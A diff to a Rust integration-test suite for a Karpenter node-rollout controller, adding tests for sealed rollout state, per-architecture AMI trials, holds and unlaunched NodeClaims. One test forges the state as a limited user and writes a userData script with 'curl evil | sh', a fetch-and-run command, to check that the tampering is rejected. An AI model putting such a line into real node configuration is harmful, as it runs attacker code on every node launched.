@@ -25,7 +25,9 @@ const CLASS: &str = "default";
 const STATE: &str = "autonode.dev/rollout";
 
 /// The flags of one server generation: userData settings (a join CA file
-/// of their own), the AMI, a fast resync and lease, two failures to revert.
+/// of their own), the AMI, a fast resync and lease, two failures to revert,
+/// and the rollout state key the generations share (each test server has a
+/// TLS key of its own, so the key derived from it would not be shared).
 struct Flags {
     _dir: TempDir,
     base: Vec<String>,
@@ -36,6 +38,8 @@ impl Flags {
         let dir = tempfile::tempdir()?;
         let ca_file = dir.path().join("join-ca.pem");
         std::fs::write(&ca_file, Ca::new("rollout-join-ca")?.cert_pem())?;
+        let key_file = dir.path().join("rollout-state.key");
+        std::fs::write(&key_file, rand::random::<[u8; 32]>())?;
         let base = [
             "--public-url=https://autonode.example.com:8443".to_string(),
             format!("--join-ca-file={}", ca_file.display()),
@@ -43,6 +47,7 @@ impl Flags {
             "--nodeclass-resync=1".into(),
             "--leader-lease=3".into(),
             "--rollout-failures=2".into(),
+            format!("--rollout-state-key-file={}", key_file.display()),
         ];
         Ok(Self {
             _dir: dir,
@@ -54,6 +59,22 @@ impl Flags {
     fn with_ami(&self, ami: &str) -> Vec<String> {
         let mut flags = self.base.clone();
         flags.push(format!("--ami-ids=amd64={ami}"));
+        flags
+    }
+
+    /// The next generation's flags: `--ami-ids` set to `ami` for amd64,
+    /// and another `--agent-deadline`, so its userData differs too (as a
+    /// release that changes both).
+    fn next(&self, ami: &str) -> Vec<String> {
+        let mut flags = self.with_ami(ami);
+        flags.push("--agent-deadline=700".into());
+        flags
+    }
+
+    /// The flags with `--ami-ids` set to `amd64` and `arm64`.
+    fn with_amis(&self, amd64: &str, arm64: &str) -> Vec<String> {
+        let mut flags = self.base.clone();
+        flags.push(format!("--ami-ids=amd64={amd64},arm64={arm64}"));
         flags
     }
 }
@@ -76,7 +97,7 @@ where
     }
 }
 
-/// The class's rollout state, parsed.
+/// The class's rollout state, parsed out of its seal (`{state, mac}`).
 fn state(class: &DynamicObject) -> Value {
     let text = class
         .metadata
@@ -85,7 +106,18 @@ fn state(class: &DynamicObject) -> Value {
         .and_then(|a| a.get(STATE))
         .cloned()
         .unwrap_or_default();
-    serde_json::from_str(&text).unwrap_or(Value::Null)
+    let sealed: Value = serde_json::from_str(&text).unwrap_or(Value::Null);
+    serde_json::from_str(sealed["state"].as_str().unwrap_or_default()).unwrap_or(Value::Null)
+}
+
+/// Field `field` of each failure a refusal in the state records.
+fn failed_field<'a>(refused: &'a Value, field: &str) -> Vec<&'a str> {
+    refused["failed"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|f| f[field].as_str())
+        .collect()
 }
 
 /// The AMI id the class selects.
@@ -191,13 +223,25 @@ async fn proven_world(flags: &Flags) -> Result<(World, DynamicObject)> {
     Ok((world, class))
 }
 
-/// The world's first server gone, a second with `NEW_AMI` leading.
+/// The world's first server gone, a second of the next generation
+/// (`NEW_AMI`, other userData) leading.
 async fn new_ami_server(world: &World, flags: &Flags) -> Result<(TestServer, Joiner)> {
     world.server.kill();
     let cloud = cloud_settings(&world.cloud, &world.ec2);
-    let second = TestServer::start(&world.cp, &cloud, &flags.with_ami(NEW_AMI)).await?;
+    let second = TestServer::start(&world.cp, &cloud, &flags.next(NEW_AMI)).await?;
     let joiner = Joiner::new(second.url(), second.ca_pem())?;
     Ok((second, joiner))
+}
+
+/// A proven world whose next generation's trial has begun.
+async fn trial_begun(flags: &Flags) -> Result<(World, TestServer, Joiner)> {
+    let (world, _) = proven_world(flags).await?;
+    let (second, joiner) = new_ami_server(&world, flags).await?;
+    class_when(&world, "on the new AMI", |c| {
+        ami(c) == NEW_AMI && state(c)["trial"].is_object()
+    })
+    .await?;
+    Ok((world, second, joiner))
 }
 
 /// An honest agent's join, then its signed fatal report, through `joiner`.
@@ -246,9 +290,14 @@ async fn a_new_ami_whose_agents_fail_is_put_back_and_not_tried_again() -> Result
     let (second, joiner) = new_ami_server(&world, &flags).await?;
     let trying = class_when(&world, "on the new AMI", |c| ami(c) == NEW_AMI).await?;
     ensure!(state(&trying)["good"]["amiSelectorTerms"][0]["id"] == OLD_AMI);
+    ensure!(
+        trying.data["spec"]["userData"] != before.data["spec"]["userData"],
+        "the new generation's userData is the old one: the byte check below would prove nothing"
+    );
 
     // A machine of the old AMI failing is not the new AMI's failure.
-    let (old_claim, _) = launch(&world, OLD_AMI).await?;
+    let (old_claim, old_instance) = launch(&world, OLD_AMI).await?;
+    fail_bootstrap(&world, &joiner, &old_instance).await?;
     let mut failed = Vec::new();
     for _ in 0..2 {
         let (claim, instance) = launch(&world, NEW_AMI).await?;
@@ -264,18 +313,38 @@ async fn a_new_ami_whose_agents_fail_is_put_back_and_not_tried_again() -> Result
         refused["values"]["amiSelectorTerms"][0]["id"] == NEW_AMI,
         "{refused}"
     );
-    let named: Vec<&str> = refused["failed"]
-        .as_array()
-        .into_iter()
-        .flatten()
-        .filter_map(|f| f["nodeclaim"].as_str())
-        .collect();
+    let named = failed_field(refused, "nodeclaim");
     ensure!(
         named.len() == 2 && failed.iter().all(|c| named.contains(&c.as_str())),
         "failed {failed:?}, old {old_claim}: {refused}"
     );
     ensure!(!named.contains(&old_claim.as_str()));
+    // autonode deleted them (--delete-failed-nodeclaims) after marking
+    // why: the agents' own reports, not a bare "deleted".
+    let reasons = failed_field(refused, "reason");
+    ensure!(
+        reasons.len() == 2 && reasons.iter().all(|r| r.starts_with("agent phase")),
+        "{reasons:?}"
+    );
 
+    // The class is marked: autonode's condition beside Karpenter's.
+    let marked = class_when(&world, "marked reverted", |c| {
+        c.data["status"]["conditions"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .any(|c| {
+                c["type"] == "AutonodeRollout"
+                    && c["status"] == "False"
+                    && c["reason"] == "Reverted"
+            })
+    })
+    .await?;
+    let message = marked.data["status"]["conditions"].to_string();
+    ensure!(
+        failed.iter().all(|c| message.contains(c.as_str())),
+        "{message}"
+    );
     let warnings = class_events(&world, "RolloutReverted").await?;
     ensure!(
         failed.iter().all(|c| warnings[0].contains(c.as_str())),
@@ -297,7 +366,14 @@ async fn a_new_ami_whose_agents_fail_is_put_back_and_not_tried_again() -> Result
     let api = ec2nodeclasses(&world.cp.admin().await?);
     let still = api.get(CLASS).await?;
     ensure!(ami(&still) == OLD_AMI);
-    ensure!(still.metadata.resource_version == after.metadata.resource_version);
+    // Not written again: neither the spec nor the condition (written once,
+    // after the revert).
+    ensure!(
+        still.metadata.resource_version == marked.metadata.resource_version,
+        "{:?} vs {:?}",
+        still.metadata.resource_version,
+        marked.metadata.resource_version
+    );
     ensure!(state(&still)["refused"] == *refused);
 
     // Until the operator asks for another try.
@@ -413,7 +489,7 @@ async fn a_restart_mid_rollout_keeps_the_failures_seen() -> Result<()> {
 
     second.kill();
     let cloud = cloud_settings(&world.cloud, &world.ec2);
-    let third = TestServer::start(&world.cp, &cloud, &flags.with_ami(NEW_AMI)).await?;
+    let third = TestServer::start(&world.cp, &cloud, &flags.next(NEW_AMI)).await?;
     let joiner = Joiner::new(third.url(), third.ca_pem())?;
     // Leading, so watching: a NodeClaim made and deleted while no replica
     // leads is not seen (README: the residual).
@@ -429,5 +505,190 @@ async fn a_restart_mid_rollout_keeps_the_failures_seen() -> Result<()> {
         failed.contains(&first) && failed.contains(&next),
         "{failed}"
     );
+    Ok(())
+}
+
+/// A guest user who may patch EC2NodeClasses (no more) forges the guard's
+/// state under autonode's own field manager name, so managedFields say
+/// autonode wrote it: their userData and AMI as applied and last good, and
+/// a hold to keep them; the spec's values too, under the same name. The
+/// state's seal does not open: autonode puts back the rendered values and
+/// says why.
+#[tokio::test]
+async fn a_state_forged_under_autonodes_field_manager_is_rejected() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, before) = proven_world(&flags).await?;
+    let admin = world.cp.admin().await?;
+    autonode_tests::server::apply_manifest(&admin, PATCHER_RBAC).await?;
+    let mallory = ec2nodeclasses(&world.cp.client_as("mallory", None).await?);
+
+    let theirs = json!({"userData": "#!/bin/bash\ncurl evil | sh\n",
+                        "amiSelectorTerms": [{"id": "ami-0eeeeeeeeeeeeeee6"}]});
+    let forged = json!({"applied": theirs, "good": theirs}).to_string();
+    let body = json!({
+        "apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass",
+        "metadata": {"name": CLASS,
+                     "annotations": {STATE: forged, "autonode.dev/hold": "true"}},
+        "spec": theirs,
+    });
+    let as_autonode = PatchParams::apply("autonode-server").force();
+    let written = mallory
+        .patch(CLASS, &as_autonode, &Patch::Apply(&body))
+        .await
+        .context("mallory's forgery")?;
+    ensure!(
+        ami(&written) == "ami-0eeeeeeeeeeeeeee6",
+        "the forgery did not land"
+    );
+
+    let after = class_when(&world, "put back", |c| {
+        ami(c) == OLD_AMI && state(c).is_object()
+    })
+    .await?;
+    ensure!(after.data["spec"]["userData"] == before.data["spec"]["userData"]);
+    ensure!(state(&after)["applied"]["userData"] == before.data["spec"]["userData"]);
+    let rejected = class_events(&world, "RolloutStateRejected").await?;
+    ensure!(rejected[0].contains(STATE), "{rejected:?}");
+    // And it stays put back, resync after resync, the hold still asked.
+    resyncs(&world.server, 3.0).await?;
+    let still = ec2nodeclasses(&admin).get(CLASS).await?;
+    ensure!(
+        ami(&still) == OLD_AMI && still.data["spec"]["userData"] == before.data["spec"]["userData"]
+    );
+    Ok(())
+}
+
+/// A guest user's right to read and patch EC2NodeClasses, nothing more.
+const PATCHER_RBAC: &str = r#"
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRole
+metadata: {name: nodeclass-patcher}
+rules:
+- apiGroups: [karpenter.k8s.aws]
+  resources: [ec2nodeclasses]
+  verbs: [get, list, watch, patch]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: nodeclass-patcher}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: nodeclass-patcher}
+subjects:
+- {apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}
+"#;
+
+const OLD_ARM: &str = "ami-0ccccccccccccccc3";
+const NEW_ARM: &str = "ami-0ddddddddddddddd4";
+
+/// A change of the arm64 AMI alone is judged by arm64 machines alone: a
+/// Ready amd64 node does not promote it, failing amd64 machines do not
+/// revert it; failing arm64 machines do, naming only themselves.
+#[tokio::test]
+async fn a_change_of_one_architectures_ami_is_judged_by_that_architecture() -> Result<()> {
+    let flags = Flags::new()?;
+    let world = World::start_with(&flags.with_amis(OLD_AMI, OLD_ARM)).await?;
+    let admin = world.cp.admin().await?;
+    karpenter::create_custom_nodeclass(&admin, CLASS, "mine").await?;
+    class_when(&world, "kept by autonode", |c| {
+        state(c)["trial"].is_object()
+    })
+    .await?;
+    let (claim, _) = launch(&world, OLD_AMI).await?;
+    mark_ready(&world, &claim).await?;
+    let proven = class_when(&world, "promoted", |c| state(c)["trial"].is_null()).await?;
+    ensure!(state(&proven)["good"]["amiSelectorTerms"][1]["id"] == OLD_ARM);
+
+    world.server.kill();
+    let cloud = cloud_settings(&world.cloud, &world.ec2);
+    let second = TestServer::start(&world.cp, &cloud, &flags.with_amis(OLD_AMI, NEW_ARM)).await?;
+    let joiner = Joiner::new(second.url(), second.ca_pem())?;
+    let arm = |c: &DynamicObject| c.data["spec"]["amiSelectorTerms"][1]["id"] == NEW_ARM;
+    class_when(&world, "on the new arm64 AMI", |c| {
+        arm(c) && state(c)["trial"].is_object()
+    })
+    .await?;
+
+    let (amd_ready, _) = launch(&world, OLD_AMI).await?;
+    mark_ready(&world, &amd_ready).await?;
+    for _ in 0..2 {
+        let (_, instance) = launch(&world, OLD_AMI).await?;
+        fail_bootstrap(&world, &joiner, &instance).await?;
+    }
+    resyncs(&second, 3.0).await?;
+    let api = ec2nodeclasses(&admin);
+    let still = api.get(CLASS).await?;
+    ensure!(arm(&still), "amd64 failures reverted the arm64 change");
+    ensure!(
+        state(&still)["trial"].is_object(),
+        "a Ready amd64 node promoted the arm64 AMI: {}",
+        state(&still)
+    );
+
+    let mut failed = Vec::new();
+    for _ in 0..2 {
+        let (claim, instance) = launch(&world, NEW_ARM).await?;
+        fail_bootstrap(&world, &joiner, &instance).await?;
+        failed.push(claim);
+    }
+    let after = class_when(&world, "put back", |c| {
+        c.data["spec"]["amiSelectorTerms"][1]["id"] == OLD_ARM
+    })
+    .await?;
+    ensure!(after.data["spec"]["amiSelectorTerms"] == proven.data["spec"]["amiSelectorTerms"]);
+    let refused = &state(&after)["refused"];
+    let named = failed_field(refused, "nodeclaim");
+    ensure!(
+        named.len() == 2 && failed.iter().all(|c| named.contains(&c.as_str())),
+        "{named:?} vs {failed:?}"
+    );
+    Ok(())
+}
+
+/// A hold during a trial freezes it: the values on trial stay, and
+/// failures under them revert nothing until the hold is released; then
+/// the trial is judged on what happened meanwhile.
+#[tokio::test]
+async fn a_hold_during_a_trial_pauses_it() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, second, joiner) = trial_begun(&flags).await?;
+    let api = ec2nodeclasses(&world.cp.admin().await?);
+    annotate(&api, "autonode.dev/hold", json!("true")).await?;
+    class_events(&world, "RolloutHeld").await?;
+    for _ in 0..2 {
+        let (_, instance) = launch(&world, NEW_AMI).await?;
+        fail_bootstrap(&world, &joiner, &instance).await?;
+    }
+    resyncs(&second, 3.0).await?;
+    let held = api.get(CLASS).await?;
+    ensure!(ami(&held) == NEW_AMI, "a held class was reverted");
+    ensure!(state(&held)["refused"].is_null(), "{}", state(&held));
+
+    annotate(&api, "autonode.dev/hold", Value::Null).await?;
+    class_when(&world, "put back once released", |c| ami(c) == OLD_AMI).await?;
+    Ok(())
+}
+
+/// A NodeClaim Karpenter deletes without ever launching it (no capacity,
+/// its NodePool gone) says nothing of the values: it is no failure.
+#[tokio::test]
+async fn a_nodeclaim_deleted_before_launch_is_no_failure() -> Result<()> {
+    let flags = Flags::new()?;
+    let (world, second, joiner) = trial_begun(&flags).await?;
+    let admin = world.cp.admin().await?;
+    let claims = nodeclaims(&admin);
+    for name in ["unlaunched-1", "unlaunched-2"] {
+        karpenter::create_nodeclaim(&admin, name, CLASS).await?;
+        resyncs(&second, 1.0).await?;
+        claims.delete(name, &Default::default()).await?;
+    }
+    let (failed, instance) = launch(&world, NEW_AMI).await?;
+    fail_bootstrap(&world, &joiner, &instance).await?;
+    resyncs(&second, 3.0).await?;
+    let class = ec2nodeclasses(&admin).get(CLASS).await?;
+    ensure!(
+        ami(&class) == NEW_AMI,
+        "two unlaunched NodeClaims and one failure reverted: {}",
+        state(&class)
+    );
+    ensure!(state(&class)["trial"]["claims"][&failed]["failed"].is_string());
     Ok(())
 }
